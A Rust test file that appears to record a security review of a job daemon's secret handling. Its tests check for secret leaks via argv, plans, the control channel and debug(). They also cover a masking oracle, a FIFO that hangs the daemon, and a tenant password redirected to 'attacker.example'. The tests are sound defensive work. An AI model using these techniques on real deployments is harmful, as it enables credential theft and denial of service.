//! Findings of the security review of the privilege, control-channel, data
//! and secret-parameter work, end to end: each test showed one hole on the
//! code it reviewed and passes once the hole is closed (some accept a
//! refusal as the fix, as their comments say).

use std::os::unix::fs::OpenOptionsExt;
use std::path::Path;
use std::time::Duration;

use holdfast_api::JobState;
use holdfast_tests::TestDaemon;
use holdfast_tests::http::rpc_call;
use serde_json::{Value, json};

fn holds(bytes: &[u8], text: &str) -> bool {
    bytes.windows(text.len()).any(|w| w == text.as_bytes())
}

/// Every file under `dir` (database, WAL, logs) that holds `text`.
fn files_holding(dir: &Path, text: &str, found: &mut Vec<String>) {
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files_holding(&path, text, found);
        } else if let Ok(bytes) = std::fs::read(&path)
            && holds(&bytes, text)
        {
            found.push(path.display().to_string());
        }
    }
}

/// A tenant's `[secrets]` make a parameter secret "whether or not the chain
/// declares it secret", but the load-time rule that keeps secrets out of
/// argv and working_dir only knows the chain's own `secret = true`. A
/// member allowed to use the tenant reads the tenant's secret in the plan
/// (`hfctl submit --dry-run`), in the log of a simulated job, and every
/// local user reads it in /proc/PID/cmdline while the job runs.
#[test]
fn a_tenant_secret_for_an_undeclared_parameter_reaches_argv_and_the_plan() {
    const SECRET: &str = "TenantArgv-S3cret-5521";
    let chain = r#"
[params.pw]
type = "string"

[process.p.activity.a]
command = ["/bin/sh", "-c", "exit 0", "--password={{ params.pw }}"]
working_dir = "/tmp/{{ params.pw }}"
"#;
    let daemon = TestDaemon::start(&[("leaky.toml", chain)]);
    daemon.write_tenant(
        "acme",
        &format!("description = \"acme\"\n[secrets]\npw = \"{SECRET}\"\n"),
    );
    daemon.hfctl_json(&["reload"]);

    let plan = rpc_call(
        daemon.socket(),
        "job.plan",
        json!({"target": "leaky", "tenant": "acme"}),
    );
    // Either the chain is refused (the parameter reaches argv) or the plan
    // masks it; it must not show it.
    assert!(
        !plan.to_string().contains(SECRET),
        "job.plan shows the tenant's secret: {plan}"
    );

    let simulated = daemon.hfctl(&[
        "--json",
        "submit",
        "leaky",
        "--tenant",
        "acme",
        "--simulate",
    ]);
    if simulated.status.success() {
        let id = serde_json::from_slice::<Value>(&simulated.stdout).expect("json")["job_id"]
            .as_u64()
            .expect("job id");
        daemon.wait_done(id);
        let log = daemon.logs(id, "p.a", None);
        assert!(
            !log.contains(SECRET),
            "the simulated attempt's log shows the tenant's secret: {log}"
        );
        let status = daemon.status_value(id).to_string();
        assert!(!status.contains(SECRET), "{status}");
    }
}

/// `job.plan` masks every occurrence of a secret value inside any other
/// value, including the caller's own parameters: whoever may use a tenant
/// learns whether a guess equals its secret (many guesses per call, no job
/// created, nothing audited). The same happens in captured output.
#[test]
fn plan_masking_confirms_guesses_of_a_tenant_secret() {
    let chain = r#"
[params.pin]
type = "string"
secret = true

[params.note]
type = "string"
default = "-"

[process.p.activity.a]
env = { PIN = "{{ params.pin }}" }
shell = "true"
"#;
    let daemon = TestDaemon::start(&[("guess.toml", chain)]);
    daemon.write_tenant(
        "acme",
        "description = \"acme\"\n[secrets]\npin = \"4711\"\n",
    );
    daemon.hfctl_json(&["reload"]);
    let shown_note = |note: &str| -> String {
        let plan = rpc_call(
            daemon.socket(),
            "job.plan",
            json!({"target": "guess", "tenant": "acme", "params": {"note": note}}),
        );
        let env = plan["result"]["waves"][0][0]["env"]
            .as_array()
            .unwrap_or_else(|| panic!("{plan}"))
            .clone();
        env.iter()
            .find(|pair| pair[0] == "HF_PARAM_NOTE")
            .and_then(|pair| pair[1].as_str())
            .unwrap_or_else(|| panic!("{plan}"))
            .to_string()
    };
    let right = shown_note("guess 4711 end");
    let wrong = shown_note("guess 4712 end");
    assert_eq!(
        right.replace("4711", "GUESS"),
        wrong.replace("4712", "GUESS"),
        "a right guess is answered differently from a wrong one ({right:?} vs {wrong:?}): \
         the plan is an oracle for the tenant's secret"
    );
}

/// Captured stdout/stderr is masked, but what an activity sends on fd 3 is
/// not: progress text, outputs, checkpoints and alerts reach job.get, the
/// database and the daemon log in clear, and the control parser quotes a
/// malformed line's first word in the attempt log.
#[test]
fn control_channel_values_are_not_masked() {
    const SECRET: &str = "fd3-secret-8812";
    let chain = r#"
[params.token]
type = "string"
secret = true

[process.p.activity.a]
shell = '''
echo "progress 50 connecting with $HF_PARAM_TOKEN" >&3
echo "output {\"conn\": \"db:$HF_PARAM_TOKEN\"}" >&3
echo "checkpoint \"$HF_PARAM_TOKEN\"" >&3
echo "alert login failed for $HF_PARAM_TOKEN" >&3
echo "$HF_PARAM_TOKEN" >&3
'''
"#;
    let daemon = TestDaemon::start(&[("emit.toml", chain)]);
    let id = daemon.submit("emit", &["-p", &format!("token={SECRET}")]);
    let job = daemon.wait_done(id);
    assert_eq!(job.state, JobState::Succeeded, "{job:#?}");
    let mut leaks = Vec::new();
    let status = daemon.status_value(id).to_string();
    if status.contains(SECRET) {
        leaks.push(format!("job.get: {status}"));
    }
    let log = daemon.logs(id, "p.a", None);
    if log.contains(SECRET) {
        leaks.push(format!("attempt log: {log}"));
    }
    let mut files = Vec::new();
    files_holding(&daemon.state_dir(), SECRET, &mut files);
    if !files.is_empty() {
        leaks.push(format!("files: {files:?}"));
    }
    if std::fs::read(daemon.log_path()).is_ok_and(|b| holds(&b, SECRET)) {
        leaks.push("the daemon log".into());
    }
    assert!(
        leaks.is_empty(),
        "the secret leaks through fd 3: {leaks:#?}"
    );
}

/// A schedule may give a secret parameter (the refusal of a default says
/// so), but the value is then in the chain file, quoted in load errors that
/// every socket member reads with `hfctl workflows`, and kept in clear in
/// the database's `definitions` table, so the sealed `job_secrets` row
/// protects nothing from a reader of the database file.
#[test]
fn a_secret_given_by_a_schedule_is_quoted_and_stored_in_clear() {
    const BAD: &str = "Sched-BAD-Secret";
    const GOOD: &str = "sched-good-secret-3141";
    let chain = |value: &str| {
        format!(
            r#"
[params.token]
type = "string"
secret = true
pattern = "[a-z0-9-]+"

[process.p.activity.a]
shell = "true"

[schedule.nightly]
cron = "0 3 * * *"
params = {{ token = "{value}" }}
"#
        )
    };
    let daemon = TestDaemon::start(&[("sched.toml", &chain(BAD))]);
    let listed =
        String::from_utf8_lossy(&daemon.hfctl(&["--json", "workflows"]).stdout).into_owned();
    assert!(
        !listed.contains(BAD),
        "hfctl workflows quotes the schedule's secret: {listed}"
    );
    assert!(
        listed.contains("is secret, so a schedule cannot hold its value"),
        "{listed}"
    );
    daemon.write_workflow("sched.toml", &chain(GOOD));
    // The chain is refused at load: reload says so by its exit code.
    let _ = daemon.hfctl(&["reload"]);
    // A job of the chain pins its definition (source included).
    let _ = daemon.hfctl(&["submit", "sched", "-p", "token=given-at-submit"]);
    std::thread::sleep(Duration::from_millis(300));
    let mut files = Vec::new();
    files_holding(&daemon.state_dir(), GOOD, &mut files);
    assert!(
        files.is_empty(),
        "the schedule's secret is in clear in {files:?}"
    );
}

/// A `type = "json"` secret is masked as its whole compact JSON text only.
/// A template that takes one field of it (`{{ params.creds.password }}`,
/// the natural way to use a structured credential) renders that field in
/// clear in the plan of anyone allowed on the tenant, and the activity's
/// output shows it unmasked.
#[test]
fn the_fields_of_a_json_secret_are_not_masked() {
    const INNER: &str = "JsonInner-Pw-4242";
    let chain = r#"
[params.creds]
type = "json"
secret = true

[process.p.activity.a]
env = { DB_LOGIN = "{{ params.creds.password }}" }
shell = 'echo "login $DB_LOGIN"'
"#;
    let daemon = TestDaemon::start(&[("jsec.toml", chain)]);
    let file = daemon.dir().join("creds.json");
    std::fs::write(
        &file,
        format!("{{\"user\":\"etl\",\"password\":\"{INNER}\"}}\n"),
    )
    .expect("secret file");
    daemon.write_tenant(
        "acme",
        &format!(
            "description = \"acme\"\n[secrets]\ncreds = {{ file = \"{}\" }}\n",
            file.display()
        ),
    );
    // The chain is refused at load: reload says so by its exit code.
    let _ = daemon.hfctl(&["reload"]);
    // Fixed by refusing structured secrets: a secret parameter is a string.
    let listed =
        String::from_utf8_lossy(&daemon.hfctl(&["--json", "workflows"]).stdout).into_owned();
    assert!(
        listed.contains("a secret parameter is a string"),
        "a json secret loads: {listed}"
    );
    let plan = rpc_call(
        daemon.socket(),
        "job.plan",
        json!({"target": "jsec", "tenant": "acme"}),
    );
    assert!(plan.get("error").is_some(), "{plan}");
    assert!(!plan.to_string().contains(INNER), "{plan}");
}

/// Wait up to `within` for `child`; kill it and say so if it is still
/// running then.
fn finished_within(mut child: std::process::Child, within: Duration) -> bool {
    let began = std::time::Instant::now();
    while began.elapsed() < within {
        if let Ok(Some(_)) = child.try_wait() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let _ = child.kill();
    let _ = child.wait();
    false
}

/// A tenant's `{ file = ... }` secret is read with a blocking `open` and
/// `read` inside the engine's loop (and in the `job.plan` handler, on a
/// runtime worker) at every submission. When the path is a FIFO (or a file
/// on a hung network mount) one submission by any member allowed on the
/// tenant stops the whole daemon: even `hfctl list` gets no answer until
/// something writes to the FIFO.
#[test]
fn a_secret_file_that_blocks_wedges_the_daemon() {
    let chain = r#"
[params.token]
type = "string"
secret = true

[process.p.activity.a]
shell = "true"
"#;
    let daemon = TestDaemon::start(&[("fifo.toml", chain)]);
    let fifo = daemon.dir().join("token.fifo");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).expect("mkfifo");
    daemon.write_tenant(
        "acme",
        &format!(
            "description = \"acme\"\n[secrets]\ntoken = {{ file = \"{}\" }}\n",
            fifo.display()
        ),
    );
    daemon.hfctl_json(&["reload"]);
    let submit = daemon.hfctl_spawn(&["submit", "fifo", "--tenant", "acme"]);
    std::thread::sleep(Duration::from_millis(500));
    let list = daemon.hfctl_spawn(&["list"]);
    let answered = finished_within(list, Duration::from_secs(5));
    // Unblock the daemon before asserting, so the fixture can stop it.
    let _ = std::fs::OpenOptions::new()
        .write(true)
        .custom_flags(nix::libc::O_NONBLOCK)
        .open(&fifo)
        .and_then(|mut f| std::io::Write::write_all(&mut f, b"x\n"));
    finished_within(submit, Duration::from_secs(5));
    assert!(
        answered,
        "hfctl list got no answer within 5 s while a submission read a FIFO secret"
    );
}

/// A tenant's `[secrets]` are meant to be used by its members' jobs without
/// being seen by them, but a submission overrides any of the tenant's
/// `[params]`, including the one that says where the secret is sent: a
/// member points `db_host` at a host of their own and the job hands the
/// tenant's database password to it.
#[test]
fn a_member_redirects_a_tenant_secret_by_overriding_a_tenant_param() {
    const SECRET: &str = "Redirect-Secret-6630";
    let chain = r#"
[params.db_host]
type = "string"

[params.db_password]
type = "string"
secret = true

[process.p.activity.a]
env = { DB_URL = "postgres://etl:{{ params.db_password }}@{{ params.db_host }}/dw" }
shell = 'printf "%s" "$DB_URL" > @DIR@/connected.$HF_JOB_ID'
"#;
    let daemon = TestDaemon::start(&[("etl.toml", chain)]);
    daemon.write_tenant(
        "acme",
        &format!(
            "description = \"acme\"\n[params]\ndb_host = \"db.acme.internal\"\n\
             [secrets]\ndb_password = \"{SECRET}\"\n"
        ),
    );
    daemon.hfctl_json(&["reload"]);
    let submitted = daemon.hfctl(&[
        "--json",
        "submit",
        "etl",
        "--tenant",
        "acme",
        "-p",
        "db_host=attacker.example",
    ]);
    if !submitted.status.success() {
        return; // refused: the tenant's value cannot be overridden
    }
    let id = serde_json::from_slice::<Value>(&submitted.stdout).expect("json")["job_id"]
        .as_u64()
        .expect("job id");
    daemon.wait_done(id);
    let sent =
        std::fs::read_to_string(daemon.dir().join(format!("connected.{id}"))).unwrap_or_default();
    assert!(
        !(sent.contains(SECRET) && sent.contains("attacker.example")),
        "the tenant's secret went to the submitter's host: {sent}"
    );
}

/// "Every value the daemon accepts can be delivered" (ARCHITECTURE.md), but
/// a string parameter holding a NUL (`"\u0000"` in JSON) is accepted at
/// submit and every attempt then fails with "an environment value contains
/// a NUL byte": the size check is the only one made.
#[test]
fn a_parameter_with_a_nul_is_accepted_but_never_delivered() {
    let chain = r#"
[params.note]
type = "string"

[process.p.activity.a]
shell = "true"
"#;
    let daemon = TestDaemon::start(&[("nul.toml", chain)]);
    let answer = rpc_call(
        daemon.socket(),
        "job.submit",
        json!({"target": "nul", "params": {"note": "a\u{0}b"}}),
    );
    let Some(id) = answer["result"]["job_id"].as_u64() else {
        return; // refused at submit: fine
    };
    let job = daemon.wait_done(id);
    assert_eq!(
        job.state,
        JobState::Succeeded,
        "an accepted parameter could not be delivered: {job:#?}"
    );
}

/// The load-time rule "a secret never reaches argv or working_dir" looks
/// for references to `params.<secret>` (or `params`), but minijinja's
/// `debug()` global (the `debug` feature is enabled) renders the whole
/// context without referencing a variable: the chain loads, the plan shows
/// the tenant's secret in argv to every member allowed on the tenant, and
/// the running command line shows it to every local user.
#[test]
fn debug_in_a_command_renders_secrets_into_argv() {
    const SECRET: &str = "Debug-Tenant-Secret-919";
    let chain = r#"
[params.token]
type = "string"
secret = true

[process.p.activity.a]
command = ["/bin/echo", "{{ debug() }}"]
"#;
    let daemon = TestDaemon::start(&[("dbg.toml", chain)]);
    daemon.write_tenant(
        "acme",
        &format!("description = \"acme\"\n[secrets]\ntoken = \"{SECRET}\"\n"),
    );
    // The chain is refused at load: reload says so by its exit code.
    let _ = daemon.hfctl(&["reload"]);
    let listed =
        String::from_utf8_lossy(&daemon.hfctl(&["--json", "workflows"]).stdout).into_owned();
    assert!(listed.contains("calls debug()"), "{listed}");
    let plan = rpc_call(
        daemon.socket(),
        "job.plan",
        json!({"target": "dbg", "tenant": "acme"}),
    );
    assert!(
        !plan.to_string().contains(SECRET),
        "the plan shows the secret through debug(): {plan}"
    );
}

/// `secrets.key` is not in the database copy `hfctl backup` makes, and a
/// daemon that starts without it makes a new key in silence: every
/// unfinished job with secrets is then failed at recovery ("cannot be
/// opened"), and every sealed row of the old key can no longer be opened
/// by retries either, though `job_secrets` says secrets were kept.
#[test]
fn a_missing_secrets_key_is_replaced_and_unfinished_jobs_fail() {
    let chain = r#"
[params.token]
type = "string"
secret = true

[process.p.activity.a]
shell = "sleep 300"
"#;
    let mut daemon = TestDaemon::start(&[("slong.toml", chain)]);
    let id = daemon.submit("slong", &["-p", "token=kept-secret"]);
    daemon.wait_for(id, "the activity runs", |job| {
        job.state == JobState::Running
    });
    daemon.stop();
    let key = daemon.state_dir().join("secrets.key");
    std::fs::rename(&key, daemon.dir().join("secrets.key.elsewhere")).expect("key moved");
    if daemon.try_launch().is_err() {
        return; // refusing to start without the key is a fix
    }
    std::thread::sleep(Duration::from_millis(500));
    let job = daemon.status(id);
    assert_ne!(
        job.state,
        JobState::Failed,
        "the job was failed because a new secrets key was made: {:?}",
        job.reason
    );
}
